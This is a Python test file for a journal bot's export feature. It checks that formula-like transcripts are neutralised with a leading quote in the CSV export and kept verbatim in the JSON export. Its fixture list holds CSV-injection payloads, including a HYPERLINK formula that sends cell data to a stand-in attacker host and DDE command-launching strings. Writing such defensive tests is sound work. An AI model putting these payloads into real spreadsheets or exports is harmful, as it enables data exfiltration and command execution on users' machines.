"""CSV export never hands a spreadsheet a live formula (issue 18, item 7).

A transcript is whatever someone said, or typed into a voice note's caption: "=HYPERLINK(...)"
spoken into a note used to land in the CSV verbatim, and a spreadsheet opening the export
ran it. Cells that would start a formula now begin with ``'`` (OWASP "CSV Injection");
numbers such as a negative valence stay numbers, and the JSON export keeps the text as said.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from bot.journal.export import COLUMNS, ExportStream
from bot.storage.history import HistoryStore
from tests.journal_seed import row, seed

#: Transcripts that a spreadsheet would take for a formula, one per dangerous first char.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = "I feel great = happy, +1 to that."


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[HistoryStore]:
    """One person's notes: every formula transcript, a plain one, and a negative valence."""
    s = await HistoryStore.open(tmp_path / "voicemood.db")
    rows = [row("telegram", "7", f"m{i}", 1795138200.0 + i, text, "negative",
                valence=-0.5) for i, text in enumerate([*FORMULAS, PLAIN])]
    await seed(s, rows)
    yield s
    await s.close()


async def _export(store: HistoryStore, fmt: str) -> bytes:
    stream = ExportStream(store, "telegram", "7", fmt, "UTC")  # type: ignore[arg-type]
    return b"".join([chunk async for chunk in stream])


async def test_formula_cells_are_neutralised_numbers_are_not(store: HistoryStore) -> None:
    data = (await _export(store, "csv")).decode("utf-8-sig")
    records = list(csv.DictReader(io.StringIO(data, newline="")))
    assert list(records[0]) == list(COLUMNS)
    transcripts = [r["transcript"] for r in records]
    assert transcripts == ["'" + text for text in FORMULAS] + [PLAIN]
    # No cell at all starts a formula, whatever the column.
    for rec in records:
        for column, cell in rec.items():
            if column != "valence":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # A negative number is data, not a formula: it stays a number a spreadsheet can sum.
    assert {r["valence"] for r in records} == {"-0.5"}


async def test_json_keeps_the_words_as_said(store: HistoryStore) -> None:
    records = json.loads(await _export(store, "json"))
    assert [r["transcript"] for r in records] == [*FORMULAS, PLAIN]
